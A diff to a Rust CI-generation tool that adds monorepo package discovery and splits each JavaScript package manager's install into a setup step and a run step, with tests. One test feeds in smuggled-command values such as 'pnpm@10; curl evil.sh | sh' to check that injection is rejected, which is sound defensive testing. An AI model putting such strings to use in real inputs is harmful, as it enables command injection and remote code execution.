@@ -37,6 +37,112 @@ pub(crate) enum PackageManager {
     Unlocked(Box<PackageManager>),
 }
 
+/// What installs a package's dependencies (`PackageManager::install`).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct Install {
+    /// Sets the manager up, once per job, in no folder in particular.
+    pub(crate) setup: Option<String>,
+    /// Installs, in the package's folder.
+    pub(crate) run: String,
+}
+
+impl Install {
+    /// Both commands, in the order they run.
+    #[cfg(test)]
+    fn commands(&self) -> Vec<&str> {
+        self.setup
+            .iter()
+            .map(String::as_str)
+            .chain([self.run.as_str()])
+            .collect()
+    }
+}
+
+/// A JavaScript package of the project: a folder with a `package.json` whose targets the CI
+/// job installs and tests there, with the manager its own files name.
+#[derive(Debug, Clone, PartialEq, Eq, Default)]
+pub(crate) struct Package {
+    /// Its folder, relative to the descriptor's (empty for that one).
+    pub(crate) dir: String,
+    /// Its package manager.
+    pub(crate) manager: PackageManager,
+}
+
+/// The package of a plan made without a folder: the descriptor's, with npm.
+pub(crate) static ROOT: Package = Package {
+    dir: String::new(),
+    manager: PackageManager::Npm,
+};
+
+/// The packages of the project whose descriptor is in `base`, for the targets in `dirs`: the
+/// descriptor's folder alone when it has a `package.json` (one app, or a workspace whose root
+/// installs every member: npm, pnpm, Yarn and Bun workspaces keep one lockfile there), else
+/// the nearest folder with a `package.json` at or above each target's folder, below `base`;
+/// none found, the descriptor's folder. Folders are read as they are written (`apps/web`),
+/// and a `dir` that leaves the project (`..`) has no package of its own.
+pub(crate) fn packages<'a>(base: &Path, dirs: impl IntoIterator<Item = &'a str>) -> Vec<Package> {
+    let package = |dir: &Path| Package {
+        dir: dir.to_string_lossy().into_owned(),
+        manager: PackageManager::of(&base.join(dir)),
+    };
+    let has = |dir: &Path| base.join(dir).join("package.json").is_file();
+    if has(Path::new("")) {
+        return vec![package(Path::new(""))];
+    }
+    let mut found: Vec<Package> = Vec::new();
+    for dir in dirs {
+        let dir = Path::new(dir);
+        if !dir.components().all(|c| {
+            matches!(
+                c,
+                std::path::Component::Normal(_) | std::path::Component::CurDir
+            )
+        }) {
+            continue;
+        }
+        let normal: std::path::PathBuf = dir
+            .components()
+            .filter(|c| matches!(c, std::path::Component::Normal(_)))
+            .collect();
+        let mut at = Some(normal.as_path());
+        while let Some(d) = at.filter(|d| !d.as_os_str().is_empty()) {
+            if has(d) {
+                if !found.iter().any(|p| Path::new(&p.dir) == d) {
+                    found.push(package(d));
+                }
+                break;
+            }
+            at = d.parent();
+        }
+    }
+    if found.is_empty() {
+        found.push(package(Path::new("")));
+    }
+    found
+}
+
+/// The package of the target in `dir` among `packages`: the one whose folder holds it, the
+/// deepest; else the descriptor's folder's, or [`ROOT`].
+pub(crate) fn package_of<'a>(packages: &'a [Package], dir: &str) -> &'a Package {
+    let dir = Path::new(dir);
+    let root = || packages.iter().find(|p| p.dir.is_empty()).unwrap_or(&ROOT);
+    if dir
+        .components()
+        .any(|c| matches!(c, std::path::Component::ParentDir))
+    {
+        return root();
+    }
+    let dir: std::path::PathBuf = dir
+        .components()
+        .filter(|c| matches!(c, std::path::Component::Normal(_)))
+        .collect();
+    packages
+        .iter()
+        .filter(|p| dir.starts_with(&p.dir))
+        .max_by_key(|p| p.dir.len())
+        .unwrap_or_else(root)
+}
+
 /// pnpm's major version when nothing pins one.
 const PNPM_MAJOR: &str = "10";
 
@@ -86,38 +192,41 @@ impl PackageManager {
         }
     }
 
-    /// The commands that install the dependencies, in order.
+    /// What installs the dependencies: a command that sets the manager up once for the job
+    /// (pnpm through npm, Yarn 2+ through Corepack), then the install, run in each package's
+    /// folder.
     #[must_use]
-    pub(crate) fn install(&self) -> Vec<String> {
+    pub(crate) fn install(&self) -> Install {
         match self {
-            PackageManager::Unlocked(pm) => pm.install_commands(false),
-            pm => pm.install_commands(true),
+            PackageManager::Unlocked(pm) => pm.install_with(false),
+            pm => pm.install_with(true),
         }
     }
 
-    /// [`PackageManager::install`]'s commands, holding the lockfile as it is (`frozen`) or
-    /// free to write one.
-    fn install_commands(&self, frozen: bool) -> Vec<String> {
+    /// [`PackageManager::install`], holding the lockfile as it is (`frozen`) or free to write
+    /// one.
+    fn install_with(&self, frozen: bool) -> Install {
         let (frozen_flag, immutable) = if frozen {
             (" --frozen-lockfile", "yarn install --immutable")
         } else {
             ("", "YARN_ENABLE_IMMUTABLE_INSTALLS=false yarn install")
         };
-        match self {
-            PackageManager::Npm => vec!["npm ci".to_owned()],
-            PackageManager::NpmWithoutLockfile => vec!["npm install".to_owned()],
-            PackageManager::Pnpm(version) => vec![
-                format!(
+        let (setup, run) = match self {
+            PackageManager::Npm => (None, "npm ci".to_owned()),
+            PackageManager::NpmWithoutLockfile => (None, "npm install".to_owned()),
+            PackageManager::Pnpm(version) => (
+                Some(format!(
                     "npm install --global pnpm@{}",
                     version.as_deref().unwrap_or(PNPM_MAJOR)
-                ),
+                )),
                 format!("pnpm install{frozen_flag}"),
-            ],
-            PackageManager::YarnClassic => vec![format!("yarn install{frozen_flag}")],
-            PackageManager::YarnBerry => vec!["corepack enable".to_owned(), immutable.to_owned()],
-            PackageManager::Bun => vec![format!("bun install{frozen_flag}")],
-            PackageManager::Unlocked(pm) => pm.install_commands(frozen),
-        }
+            ),
+            PackageManager::YarnClassic => (None, format!("yarn install{frozen_flag}")),
+            PackageManager::YarnBerry => (Some("corepack enable".to_owned()), immutable.to_owned()),
+            PackageManager::Bun => (None, format!("bun install{frozen_flag}")),
+            PackageManager::Unlocked(pm) => return pm.install_with(frozen),
+        };
+        Install { setup, run }
     }
 
     /// The command that runs the `test` script.
@@ -252,9 +361,83 @@ mod tests {
         ));
         std::fs::create_dir_all(&dir).unwrap();
         for (name, text) in files {
-            std::fs::write(dir.join(name), text).unwrap();
+            let path = dir.join(name);
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            std::fs::write(path, text).unwrap();
         }
         dir
+    }
+
+    /// The packages of a project with `files`, for targets in `dirs`, as (folder, manager).
+    fn packages_of(files: &[(&str, &str)], dirs: &[&str]) -> Vec<(String, PackageManager)> {
+        let base = folder(files);
+        let found = packages(&base, dirs.iter().copied());
+        std::fs::remove_dir_all(base).unwrap();
+        found.into_iter().map(|p| (p.dir, p.manager)).collect()
+    }
+
+    /// A root `package.json` is the one package (a workspace installs every member there);
+    /// without one, each target's nearest folder with a `package.json` is a package with the
+    /// manager of its own lockfile; a target in none, or outside the project, adds nothing.
+    #[test]
+    fn each_app_without_a_root_workspace_is_a_package_of_its_own() {
+        let apps = [
+            ("apps/web/package.json", "{}"),
+            ("apps/web/pnpm-lock.yaml", ""),
+            ("apps/api/package.json", "{}"),
+            ("apps/api/package-lock.json", "{}"),
+            ("services/job/main.rs", ""),
+        ];
+        assert_eq!(
+            packages_of(
+                &apps,
+                &[
+                    "apps/web",
+                    "./apps/api/src/handlers",
+                    "apps/web",
+                    "services/job",
+                    "../apps/web"
+                ]
+            ),
+            [
+                ("apps/web".to_owned(), PackageManager::Pnpm(None)),
+                ("apps/api".to_owned(), PackageManager::Npm),
+            ]
+        );
+        let mut workspace = apps.to_vec();
+        workspace.extend([("package.json", "{}"), ("bun.lock", "{}")]);
+        assert_eq!(
+            packages_of(&workspace, &["apps/web", "apps/api"]),
+            [(String::new(), PackageManager::Bun)]
+        );
+        // No package.json anywhere: the descriptor's folder, npm.
+        assert_eq!(
+            packages_of(&[("main.rs", "")], &["."]),
+            [(String::new(), PackageManager::Npm)]
+        );
+    }
+
+    /// A target's package is the deepest that holds its folder; one outside every package
+    /// (or written with `..`) is the descriptor's folder's.
+    #[test]
+    fn a_target_belongs_to_the_deepest_package_that_holds_its_folder() {
+        let p = |dir: &str, manager| Package {
+            dir: dir.to_owned(),
+            manager,
+        };
+        let packages = [
+            p("", PackageManager::Npm),
+            p("apps", PackageManager::YarnClassic),
+            p("apps/web", PackageManager::Bun),
+        ];
+        let of = |dir| &package_of(&packages, dir).dir;
+        assert_eq!(of("apps/web/src"), "apps/web");
+        assert_eq!(of("./apps/web"), "apps/web");
+        assert_eq!(of("apps/webhooks"), "apps");
+        assert_eq!(of("apps/../apps/web"), "");
+        assert_eq!(of("."), "");
+        assert_eq!(package_of(&packages[1..], "lib").dir, "");
+        assert_eq!(package_of(&[], "apps/web"), &ROOT);
     }
 
     fn of(files: &[(&str, &str)]) -> PackageManager {
@@ -334,7 +517,7 @@ mod tests {
         for hostile in ["pnpm@10; curl evil.sh | sh", "pnpm@$(id)", "pnpm@"] {
             let pm = of(&[("package.json", &pkg(hostile)), ("pnpm-lock.yaml", "")]);
             assert_eq!(pm, PackageManager::Pnpm(None), "{hostile}");
-            assert_eq!(pm.install()[0], "npm install --global pnpm@10");
+            assert_eq!(pm.install().commands()[0], "npm install --global pnpm@10");
         }
         // Something else: the lockfile decides.
         assert_eq!(
@@ -426,27 +609,33 @@ mod tests {
         let pkg = |pm: &str| format!(r#"{{ "name": "app", "packageManager": "{pm}" }}"#);
         let pnpm = of(&[("package.json", &pkg("pnpm@9.15.0"))]);
         assert_eq!(
-            pnpm.install(),
+            pnpm.install().commands(),
             ["npm install --global pnpm@9.15.0", "pnpm install"]
         );
         assert_eq!(pnpm.test(), "pnpm test");
         assert_eq!(
-            of(&[("package.json", &pkg("yarn@4.5.3"))]).install(),
+            of(&[("package.json", &pkg("yarn@4.5.3"))])
+                .install()
+                .commands(),
             [
                 "corepack enable",
                 "YARN_ENABLE_IMMUTABLE_INSTALLS=false yarn install"
             ]
         );
         assert_eq!(
-            of(&[("package.json", &pkg("yarn@1.22.22"))]).install(),
+            of(&[("package.json", &pkg("yarn@1.22.22"))])
+                .install()
+                .commands(),
             ["yarn install"]
         );
         let bun = of(&[("package.json", &pkg("bun@1.3.3"))]);
-        assert_eq!(bun.install(), ["bun install"]);
+        assert_eq!(bun.install().commands(), ["bun install"]);
         assert!(bun.is_bun() && bun.add() == "bun add");
         // With the lockfile: frozen.
         assert_eq!(
-            of(&[("package.json", &pkg("bun@1.3.3")), ("bun.lock", "{}")]).install(),
+            of(&[("package.json", &pkg("bun@1.3.3")), ("bun.lock", "{}")])
+                .install()
+                .commands(),
             ["bun install --frozen-lockfile"]
         );
     }
@@ -455,20 +644,20 @@ mod tests {
     fn each_manager_installs_and_tests_its_own_way() {
         let pnpm = PackageManager::Pnpm(Some("9.15.0".to_owned()));
         assert_eq!(
-            pnpm.install(),
+            pnpm.install().commands(),
             [
                 "npm install --global pnpm@9.15.0",
                 "pnpm install --frozen-lockfile"
             ]
         );
         assert_eq!(pnpm.test(), "pnpm test");
-        assert_eq!(PackageManager::Npm.install(), ["npm ci"]);
+        assert_eq!(PackageManager::Npm.install().commands(), ["npm ci"]);
         assert_eq!(
-            PackageManager::NpmWithoutLockfile.install(),
+            PackageManager::NpmWithoutLockfile.install().commands(),
             ["npm install"]
         );
         assert_eq!(
-            PackageManager::YarnBerry.install(),
+            PackageManager::YarnBerry.install().commands(),
             ["corepack enable", "yarn install --immutable"]
         );
         assert_eq!(PackageManager::Bun.test(), "bun run test");
